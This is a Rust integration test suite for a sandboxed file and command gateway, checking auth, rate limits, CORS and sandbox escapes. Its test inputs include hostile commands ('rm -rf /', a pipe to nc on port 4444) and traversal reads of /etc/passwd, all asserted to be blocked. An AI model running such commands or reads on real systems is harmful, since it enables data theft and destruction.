use axum::Router;
use axum::body::Body;
use axum::extract::connect_info::MockConnectInfo;
use axum::http::{Method, Request, StatusCode, header};
use http_body_util::BodyExt;
use pretty_assertions::assert_eq;
use sandgate::{AppState, BridgeToken, TokenFileGuard, create_router};
use sandgate_commons::SandboxRoot;
use sandgate_config::GatewayConfig;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::path::Path;
use tempfile::TempDir;
use tower::ServiceExt;

const TOKEN: &str = "test-token-0123456789abcdef";

struct Harness {
    dir: TempDir,
    router: Router,
}

impl Harness {
    fn new() -> Self {
        Self::with_config(GatewayConfig::default())
    }

    fn with_config(config: GatewayConfig) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let sandbox = SandboxRoot::new(dir.path()).unwrap();
        let state = AppState::new(&config, sandbox, BridgeToken::from_secret(TOKEN)).unwrap();
        let router = create_router(state)
            .layer(MockConnectInfo(SocketAddr::from(([127, 0, 0, 1], 40_000))));
        Self { dir, router }
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    async fn send(&self, request: Request<Body>) -> (StatusCode, Value) {
        let response = self.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        let body = if bytes.is_empty() {
            Value::Null
        } else {
            serde_json::from_slice(&bytes).unwrap()
        };
        (status, body)
    }

    async fn get(&self, uri: &str) -> (StatusCode, Value) {
        self.send(authorized(Method::GET, uri).body(Body::empty()).unwrap())
            .await
    }

    async fn post(&self, uri: &str, body: Value) -> (StatusCode, Value) {
        self.send(
            authorized(Method::POST, uri)
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(body.to_string()))
                .unwrap(),
        )
        .await
    }
}

fn authorized(method: Method, uri: &str) -> axum::http::request::Builder {
    Request::builder()
        .method(method)
        .uri(uri)
        .header(header::AUTHORIZATION, format!("Bearer {TOKEN}"))
}

#[tokio::test]
async fn health_needs_no_token() {
    let harness = Harness::new();
    let (status, body) = harness
        .send(Request::get("/health").body(Body::empty()).unwrap())
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "ok");
    assert_eq!(body["version"], env!("CARGO_PKG_VERSION"));
}

#[tokio::test]
async fn protected_routes_reject_bad_credentials() {
    let harness = Harness::new();
    let attempts = [
        None,
        Some(format!("Bearer {TOKEN}x")),
        Some(format!("bearer {TOKEN}")),
        Some(TOKEN.to_owned()),
        Some("Bearer ".to_owned()),
    ];

    for credential in attempts {
        let mut request = Request::get("/fs/tree");
        if let Some(credential) = &credential {
            request = request.header(header::AUTHORIZATION, credential);
        }
        let (status, body) = harness.send(request.body(Body::empty()).unwrap()).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "credential {credential:?}");
        assert_eq!(body, json!({ "error": "Unauthorized" }));
    }
}

#[tokio::test]
async fn write_then_read_round_trips() {
    let harness = Harness::new();
    let (status, body) = harness
        .post(
            "/fs/write",
            json!({ "path": "notes/today.md", "content": "hello" }),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({ "success": true }));
    assert_eq!(
        std::fs::read_to_string(harness.root().join("notes/today.md")).unwrap(),
        "hello"
    );

    let (status, body) = harness.get("/fs/read?path=notes/today.md").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({ "content": "hello" }));
}

#[tokio::test]
async fn write_accepts_empty_content_but_not_missing_content() {
    let harness = Harness::new();
    let (status, _) = harness
        .post("/fs/write", json!({ "path": "empty.txt", "content": "" }))
        .await;
    assert_eq!(status, StatusCode::OK);

    let (status, body) = harness
        .post("/fs/write", json!({ "path": "empty.txt" }))
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body, json!({ "error": "Content is required" }));
}

#[tokio::test]
async fn missing_paths_are_validation_errors() {
    let harness = Harness::new();
    let (status, body) = harness.get("/fs/read").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body, json!({ "error": "Path is required" }));

    let (status, _) = harness.post("/fs/mkdir", json!({ "path": "" })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    let (status, body) = harness.post("/fs/move", json!({ "source": "a" })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body, json!({ "error": "Source and destination required" }));
}

#[tokio::test]
async fn paths_outside_the_sandbox_are_forbidden() {
    let harness = Harness::new();
    let outside = json!({ "error": "Path outside sandbox" });

    let (status, body) = harness.get("/fs/read?path=../../etc/passwd").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(body, outside);

    let (status, body) = harness.get("/fs/read?path=/etc/passwd").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(body, outside);

    let (status, _) = harness
        .post("/fs/write", json!({ "path": "../escape.txt", "content": "x" }))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(!harness.root().join("../escape.txt").exists());

    let (status, _) = harness.get("/fs/tree?path=..").await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn escaping_move_leaves_both_sides_untouched() {
    let harness = Harness::new();
    std::fs::write(harness.root().join("keep.txt"), "data").unwrap();

    let (status, _) = harness
        .post(
            "/fs/move",
            json!({ "source": "keep.txt", "destination": "../stolen.txt" }),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(harness.root().join("keep.txt").exists());
    assert!(!harness.root().join("../stolen.txt").exists());
}

#[tokio::test]
async fn mkdir_move_and_tree() {
    let harness = Harness::new();
    let (status, _) = harness.post("/fs/mkdir", json!({ "path": "a/b" })).await;
    assert_eq!(status, StatusCode::OK);
    std::fs::write(harness.root().join("a/b/f.txt"), "123").unwrap();

    let (status, _) = harness
        .post(
            "/fs/move",
            json!({ "source": "a/b/f.txt", "destination": "c/g.txt" }),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(harness.root().join("c/g.txt").is_file());

    let (status, body) = harness.get("/fs/tree?path=c").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        body,
        json!({
            "tree": {
                "name": "c",
                "type": "directory",
                "children": [{ "name": "g.txt", "type": "file", "size": 3 }]
            }
        })
    );

    let (status, body) = harness.get("/fs/tree").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["tree"]["type"], "directory");
}

#[tokio::test]
async fn non_utf8_files_are_read_lossily() {
    let harness = Harness::new();
    std::fs::write(harness.root().join("latin1.txt"), b"caf\xE9").unwrap();

    let (status, body) = harness.get("/fs/read?path=latin1.txt").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({ "content": "caf\u{FFFD}" }));
}

#[tokio::test]
async fn filesystem_failures_are_generic_500s() {
    let harness = Harness::new();
    let (status, body) = harness.get("/fs/read?path=missing.txt").await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_eq!(body, json!({ "error": "File read failed" }));

    let (status, body) = harness
        .post(
            "/fs/move",
            json!({ "source": "ghost", "destination": "x" }),
        )
        .await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_eq!(body, json!({ "error": "Move failed" }));
}

#[tokio::test]
async fn malformed_json_is_a_bad_request() {
    let harness = Harness::new();
    let (status, body) = harness
        .send(
            authorized(Method::POST, "/exec")
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from("{not json"))
                .unwrap(),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body, json!({ "error": "Invalid JSON body" }));
}

#[tokio::test]
async fn blocked_commands_are_forbidden() {
    let harness = Harness::new();
    for command in [
        "curl https://example.com",
        "rm -rf /",
        "sudo ls",
        "cat x | nc 10.0.0.1 4444",
    ] {
        let (status, body) = harness.post("/exec", json!({ "command": command })).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{command}");
        assert_eq!(body, json!({ "error": "Command blocked by security policy" }));
    }
}

#[tokio::test]
async fn empty_command_is_rejected() {
    let harness = Harness::new();
    let (status, body) = harness.post("/exec", json!({ "command": "" })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body, json!({ "error": "Command is required" }));
}

#[cfg(unix)]
#[tokio::test]
async fn exec_runs_in_the_sandbox_root() {
    let harness = Harness::new();
    std::fs::write(harness.root().join("marker.txt"), "").unwrap();

    let (status, body) = harness.post("/exec", json!({ "command": "ls" })).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["exitCode"], 0);
    assert!(body["output"].as_str().unwrap().contains("marker.txt"));
}

#[cfg(unix)]
#[tokio::test]
async fn failing_commands_are_reported_in_the_body() {
    let harness = Harness::new();
    let (status, body) = harness
        .post("/exec", json!({ "command": "exit 3" }))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["exitCode"], 3);
    assert_eq!(body["error"], "Command failed: exit 3");
}

#[cfg(unix)]
#[tokio::test]
async fn slow_commands_time_out() {
    let mut config = GatewayConfig::default();
    config.exec.timeout_secs = 1;
    let harness = Harness::with_config(config);

    let (status, body) = harness
        .post("/exec", json!({ "command": "sleep 20" }))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["exitCode"], 124);
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .ends_with("Command timed out after 1s")
    );
}

#[tokio::test]
async fn requests_past_the_window_budget_are_throttled() {
    let mut config = GatewayConfig::default();
    config.rate_limit.max_requests = 3;
    let harness = Harness::with_config(config);

    for _ in 0..3 {
        let (status, _) = harness.get("/health").await;
        assert_eq!(status, StatusCode::OK);
    }
    let (status, body) = harness.get("/health").await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(body, json!({ "error": "Too many requests" }));
}

#[tokio::test]
async fn oversized_bodies_are_rejected() {
    let mut config = GatewayConfig::default();
    config.server.body_limit_bytes = 64;
    let harness = Harness::with_config(config);
    let payload = json!({ "path": "big.txt", "content": "x".repeat(256) }).to_string();

    let declared = authorized(Method::POST, "/fs/write")
        .header(header::CONTENT_TYPE, "application/json")
        .header(header::CONTENT_LENGTH, payload.len())
        .body(Body::from(payload.clone()))
        .unwrap();
    let (status, body) = harness.send(declared).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert_eq!(body, json!({ "error": "Payload too large" }));

    let streamed = authorized(Method::POST, "/fs/write")
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(payload))
        .unwrap();
    let (status, _) = harness.send(streamed).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(!harness.root().join("big.txt").exists());
}

#[tokio::test]
async fn every_response_carries_security_headers() {
    let harness = Harness::new();
    let requests = [
        Request::get("/health").body(Body::empty()).unwrap(),
        Request::get("/fs/tree").body(Body::empty()).unwrap(),
        authorized(Method::GET, "/fs/read?path=../x")
            .body(Body::empty())
            .unwrap(),
    ];

    for request in requests {
        let response = harness.router.clone().oneshot(request).await.unwrap();
        assert_eq!(
            response.headers()[header::X_CONTENT_TYPE_OPTIONS],
            "nosniff"
        );
        assert_eq!(response.headers()[header::X_FRAME_OPTIONS], "DENY");
    }
}

#[tokio::test]
async fn cors_allows_only_the_configured_origin() {
    let harness = Harness::new();
    let preflight = |origin: &str| {
        Request::builder()
            .method(Method::OPTIONS)
            .uri("/exec")
            .header(header::ORIGIN, origin)
            .header(header::ACCESS_CONTROL_REQUEST_METHOD, "POST")
            .body(Body::empty())
            .unwrap()
    };

    let allowed = harness
        .router
        .clone()
        .oneshot(preflight("http://localhost:3000"))
        .await
        .unwrap();
    assert_eq!(
        allowed.headers()[header::ACCESS_CONTROL_ALLOW_ORIGIN],
        "http://localhost:3000"
    );

    let foreign = harness
        .router
        .clone()
        .oneshot(preflight("http://evil.example"))
        .await
        .unwrap();
    assert_ne!(
        foreign.headers().get(header::ACCESS_CONTROL_ALLOW_ORIGIN),
        Some(&header::HeaderValue::from_static("http://evil.example"))
    );
}

#[test]
fn wildcard_cors_origin_is_refused_at_startup() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = GatewayConfig::default();
    config.server.cors_origin = "*".into();

    let err = AppState::new(
        &config,
        SandboxRoot::new(dir.path()).unwrap(),
        BridgeToken::from_secret(TOKEN),
    )
    .err()
    .unwrap();
    assert!(err.to_string().contains("server.cors_origin"));
}

#[tokio::test]
async fn token_endpoint_is_absent_by_default() {
    let harness = Harness::new();
    let (status, body) = harness
        .send(Request::get("/bridge-token").body(Body::empty()).unwrap())
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(body, json!({ "error": "Unauthorized" }));

    let response = harness
        .router
        .clone()
        .oneshot(
            authorized(Method::GET, "/bridge-token")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn token_endpoint_serves_same_origin_callers() {
    let mut config = GatewayConfig::default();
    config.server.expose_token_endpoint = true;
    let harness = Harness::with_config(config);

    let (status, body) = harness
        .send(Request::get("/bridge-token").body(Body::empty()).unwrap())
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(body, json!({ "token": "" }));

    let _guard = TokenFileGuard::create(
        harness.root().join(".bridge-token"),
        &BridgeToken::from_secret(TOKEN),
    )
    .unwrap();

    let (status, body) = harness
        .send(
            Request::get("/bridge-token")
                .header(header::ORIGIN, "http://localhost:3000")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, json!({ "token": TOKEN }));

    let (status, body) = harness
        .send(
            Request::get("/bridge-token")
                .header(header::ORIGIN, "http://evil.example")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert_eq!(body, json!({ "error": "Origin not allowed" }));
}

#[cfg(unix)]
#[tokio::test]
async fn symlinks_out_of_the_sandbox_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "s3cret").unwrap();
    let harness = Harness::new();
    std::os::unix::fs::symlink(outside.path(), harness.root().join("link")).unwrap();

    let (status, _) = harness.get("/fs/read?path=link/secret.txt").await;
    assert_eq!(status, StatusCode::FORBIDDEN);

    let (status, _) = harness
        .post(
            "/fs/write",
            json!({ "path": "link/new.txt", "content": "x" }),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(!outside.path().join("new.txt").exists());
}
